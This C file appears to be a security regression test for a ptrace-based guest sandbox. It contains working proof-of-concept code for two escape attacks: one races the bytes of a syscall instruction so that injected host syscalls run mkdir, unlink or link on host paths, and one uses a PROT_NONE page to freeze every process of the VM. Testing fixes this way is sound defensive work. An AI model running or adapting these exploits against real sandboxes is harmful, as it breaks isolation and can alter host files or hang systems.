// SPDX-License-Identifier: GPL-2.0-only
/*
 * Escape class 2 of issue 11: an injected host syscall re-executes the
 * guest's own instruction bytes.
 *
 * The tracer runs every injected call after the first (and in --strict
 * every one) through the `syscall` instruction the guest thread last
 * executed, at rip - 2 (src/tracer/addon/ptrace_ops.c, tracer_inject).
 * A guest mmap of a file is three injections: open, mmap, close. Here
 * that syscall instruction sits on a page of the guest's own, made
 * writable and executable with mprotect (on the fast path by default).
 *
 *   inject-site redirect OP PATH [PATH2] TRIES SECONDS
 *	A sibling thread keeps flipping the two bytes of the syscall site
 *	between `syscall` and a `jmp` to guest code that makes its own
 *	syscall OP (mkdir PATH, unlink PATH, link PATH PATH2). Run by the
 *	thread itself that code is served by the guest kernel (where PATH
 *	does not exist: ENOENT); run by an injection it runs on the host.
 *	The guest sees an mmap result of 0 or -EEXIST when it won; the test
 *	judges by the host paths.
 *   inject-site hang TRIES SECONDS
 *	The syscall site is the last two bytes of a page; while the thread
 *	is in the mmap a sibling makes that page PROT_NONE, so the
 *	re-executed syscall faults: the old tracer resumes the fault over
 *	and over and every process of that vmctl freezes. The test sees the
 *	boot time out. The sibling restores the page after each try, so a
 *	fixed kernel lets the loop end.
 */
#include "escape.h"
#include <fcntl.h>
#include <setjmp.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <sys/mman.h>
#include <sys/syscall.h>

#define GUEST_FILE	"/tmp/escape-guest-data"
#define PAGE		4096UL
#define STACK_SIZE	16384

static unsigned char stack_area[STACK_SIZE] __attribute__((aligned(64)));
static unsigned char *code;		/* two pages: RWX, then RX */
static volatile uint16_t *site;		/* the syscall instruction */
static uint16_t site_syscall, site_jmp;
static volatile int in_call;

static int is_error(long ret)
{
	return ret < 0 && ret > -4096;
}

/*
 * Call the syscall site with mmap(NULL, PAGE, PROT_READ, MAP_SHARED, fd, 0)
 * in the registers, on a stack of this program's own (stack_area): no red
 * zone of a C function under the call's return address.
 */
static long call_site(long fd)
{
	register unsigned long r10 asm("r10") = MAP_SHARED;
	register long r8 asm("r8") = fd;
	register unsigned long r9 asm("r9") = 0;
	unsigned long rdi = 0, rsi = PAGE, rdx = PROT_READ;
	void *top = stack_area + STACK_SIZE;
	long ret = __NR_mmap;

	asm volatile("mov %%rsp, %%r12\n\t"
		     "mov %[top], %%rsp\n\t"
		     "call *%[site]\n\t"
		     "mov %%r12, %%rsp"
		     : "+a"(ret), "+D"(rdi), "+S"(rsi), "+d"(rdx), "+r"(r10),
		       "+r"(r8), "+r"(r9)
		     : [site] "r"(site), [top] "r"(top)
		     : "rcx", "r11", "r12", "memory");
	return ret;
}

static void put_bytes(unsigned char **p, const void *bytes, size_t n)
{
	memcpy(*p, bytes, n);
	*p += n;
}

/* mov $imm32, %eax / %edx: b8+r imm32 */
static void put_mov32(unsigned char **p, unsigned char opcode, uint32_t imm)
{
	put_bytes(p, &opcode, 1);
	put_bytes(p, &imm, 4);
}

/* movabs $imm64, %rdi / %rsi: 48 bf / 48 be imm64 */
static void put_mov64(unsigned char **p, unsigned char opcode, uint64_t imm)
{
	unsigned char rex = 0x48;

	put_bytes(p, &rex, 1);
	put_bytes(p, &opcode, 1);
	put_bytes(p, &imm, 8);
}

/*
 * Two pages at @code: the first RWX (its protection is what the attack
 * plays with), the second RX. @site_off is where the syscall site goes;
 * the attack code follows it, 16 bytes on, unless that is on the next page.
 */
static void build_code(size_t site_off, long nr, const char *a0, const char *a1)
{
	static const unsigned char syscall_ret[] = { 0x0f, 0x05, 0xc3 };
	static const unsigned char syscall_insn[] = { 0x0f, 0x05 };
	static const unsigned char ret_insn[] = { 0xc3 };
	unsigned char *p;
	void *m;

	m = mmap(NULL, 2 * PAGE, PROT_READ | PROT_WRITE,
		 MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (m == MAP_FAILED)
		die("mmap: %s", strerror(errno));
	code = m;
	memset(code, 0xcc, 2 * PAGE);	/* int3 everywhere else */
	p = code + site_off;
	put_bytes(&p, syscall_ret, sizeof(syscall_ret));
	if (site_off + 2 == PAGE) {
		/* the hang attack: the ret is the first byte of the RX page */
		p = code + PAGE;
		put_bytes(&p, ret_insn, 1);
	} else {
		p = code + site_off + 16;
		put_mov32(&p, 0xb8, (uint32_t)nr);		/* %eax */
		put_mov64(&p, 0xbf, (uintptr_t)a0);		/* %rdi */
		put_mov64(&p, 0xbe, (uintptr_t)a1);		/* %rsi */
		put_mov32(&p, 0xba, 0755);			/* %edx */
		put_bytes(&p, syscall_insn, sizeof(syscall_insn));
		put_bytes(&p, ret_insn, 1);
	}
	/* the page made writable and executable, as an attacker would */
	if (mprotect(code, PAGE, PROT_READ | PROT_WRITE | PROT_EXEC) != 0)
		die("mprotect rwx: %s", strerror(errno));
	if (mprotect(code + PAGE, PAGE, PROT_READ | PROT_EXEC) != 0)
		die("mprotect rx: %s", strerror(errno));
	site = (volatile uint16_t *)(code + site_off);
	memcpy(&site_syscall, syscall_insn, 2);
	site_jmp = (uint16_t)(0xeb | ((16 - 2) << 8));	/* jmp .+16 */
}

static int open_guest_file(void)
{
	int fd;

	fd = open(GUEST_FILE, O_RDWR | O_CREAT | O_TRUNC, 0600);
	if (fd < 0)
		die("open %s: %s", GUEST_FILE, strerror(errno));
	if (write(fd, "guest\n", 6) != 6)
		die("write %s: %s", GUEST_FILE, strerror(errno));
	return fd;
}

static void *flip_site(void *arg)
{
	struct sibling *s = arg;

	s->running = 1;
	while (!s->stop) {
		*site = site_jmp;
		*site = site_syscall;
	}
	return NULL;
}

static int attack_redirect(const char *op, const char *a0, const char *a1,
			   long tries, double seconds)
{
	double deadline = now_s() + seconds;
	long n, direct = 0, mapped = 0, other = 0, last = 0, nr;
	struct sibling sib;
	int fd, won = 0;

	if (strcmp(op, "mkdir") == 0)
		nr = __NR_mkdir;
	else if (strcmp(op, "unlink") == 0)
		nr = __NR_unlink;
	else if (strcmp(op, "link") == 0)
		nr = __NR_link;
	else
		die("unknown op %s", op);
	build_code(0x800, nr, a0, a1);
	fd = open_guest_file();
	sibling_start(&sib, flip_site);
	for (n = 1; n <= tries && now_s() < deadline; n++) {
		long ret = call_site(fd);

		if (ret == -ENOENT) {
			direct++;	/* the thread ran the jmp itself */
		} else if (!is_error(ret) && ret >= (long)PAGE) {
			mapped++;
			if (munmap((void *)ret, PAGE) != 0)
				die("munmap: %s", strerror(errno));
		} else {
			/* 0 or -EEXIST: the host's answer to OP */
			other++;
			last = ret;
			won = ret == 0 || ret == -EEXIST;
			if (won)
				break;
		}
	}
	sibling_stop(&sib);
	*site = site_syscall;
	if (close(fd) != 0)
		die("close: %s", strerror(errno));
	if (n > tries)
		n = tries;
	say("ESCAPE inject-redirect-%s %s tries=%ld direct=%ld mapped=%ld other=%ld last=%ld",
	    op, won ? "won" : "held", n, direct, mapped, other, last);
	return 0;
}

/*
 * The hang attack. Each try is one handshake: the thread raises in_call
 * and go, waits a few microseconds (a different time each try) and makes
 * the call; the sibling, told by go, makes the page PROT_NONE, waits for
 * the call to end, restores the page and reports the try done. Whether the
 * thread got through the syscall instruction before the page went is the
 * race: when it did, the kernel's injection re-executes it on a PROT_NONE
 * page; when it did not, the thread takes a SIGSEGV and tries again. By
 * default the sibling's mprotect runs on the host at once (fast path); in
 * --strict it is itself served by the kernel, and wins when the thread's
 * mmap stops while the kernel is serving it: every other try the thread
 * waits for the sibling to be about to call (armed) before its delay.
 */
static volatile long go, armed, done;

static void *protnone_site(void *arg)
{
	struct sibling *s = arg;

	s->running = 1;
	while (!s->stop) {
		if (go == done)
			continue;
		armed = go;
		if (mprotect(code, PAGE, PROT_NONE) != 0)
			die("mprotect none: %s", strerror(errno));
		while (in_call && !s->stop)
			;
		if (mprotect(code, PAGE, PROT_READ | PROT_WRITE | PROT_EXEC) != 0)
			die("mprotect rwx: %s", strerror(errno));
		done = go;
	}
	return NULL;
}

static sigjmp_buf fault_jmp;

static void on_fault(int sig)
{
	(void)sig;
	siglongjmp(fault_jmp, 1);
}

/* About @cycles TSC cycles of doing nothing, with no syscall. */
static void spin_cycles(unsigned long cycles)
{
	unsigned long start = __builtin_ia32_rdtsc();

	while (__builtin_ia32_rdtsc() - start < cycles)
		__builtin_ia32_pause();
}

/* Wait for the sibling to finish try @n (yielding: it may need our CPU). */
static void wait_done(long n)
{
	while (done != n)
		if (sched_yield() != 0)
			die("sched_yield: %s", strerror(errno));
}

static int attack_hang(long tries, double seconds)
{
	double deadline = now_s() + seconds;
	volatile long faults = 0, n;
	struct sigaction sa;
	struct sibling sib;
	int fd;

	memset(&sa, 0, sizeof(sa));
	sa.sa_handler = on_fault;
	if (sigemptyset(&sa.sa_mask) != 0 || sigaction(SIGSEGV, &sa, NULL) != 0)
		die("sigaction: %s", strerror(errno));
	build_code(PAGE - 2, 0, NULL, NULL);
	fd = open_guest_file();
	sibling_start(&sib, protnone_site);
	for (n = 1; n <= tries && now_s() < deadline; n++) {
		long ret;

		if (sigsetjmp(fault_jmp, 1)) {
			/* the thread itself ran into the PROT_NONE page */
			in_call = 0;
			faults++;
			wait_done(n);
			continue;
		}
		say("hang: try %ld", n);	/* the last one seen is the one that froze */
		in_call = 1;
		go = n;
		if (n % 2) {
			/* at once, after none to about 15 us */
			spin_cycles((unsigned long)(n % 16) * 3000);
		} else {
			/*
			 * Once the sibling is about to make its call, after
			 * none to about 60 us: in --strict the kernel takes
			 * that long to serve it, and the thread's own call
			 * must come in between.
			 */
			while (armed != n)
				;
			spin_cycles((unsigned long)(n / 2 % 32) * 6000);
		}
		ret = call_site(fd);
		in_call = 0;
		if (!is_error(ret) && munmap((void *)ret, PAGE) != 0)
			die("munmap: %s", strerror(errno));
		wait_done(n);
	}
	sibling_stop(&sib);
	if (close(fd) != 0)
		die("close: %s", strerror(errno));
	if (n > tries)
		n = tries;
	say("ESCAPE inject-hang held tries=%ld faults=%ld", n, faults);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 6 && strcmp(argv[1], "redirect") == 0)
		return attack_redirect(argv[2], argv[3], NULL,
				       parse_long(argv[4], "tries"),
				       (double)parse_long(argv[5], "seconds"));
	if (argc == 7 && strcmp(argv[1], "redirect") == 0)
		return attack_redirect(argv[2], argv[3], argv[4],
				       parse_long(argv[5], "tries"),
				       (double)parse_long(argv[6], "seconds"));
	if (argc == 4 && strcmp(argv[1], "hang") == 0)
		return attack_hang(parse_long(argv[2], "tries"),
				   (double)parse_long(argv[3], "seconds"));
	die("usage: inject-site redirect OP PATH [PATH2] TRIES SECONDS | inject-site hang TRIES SECONDS");
}
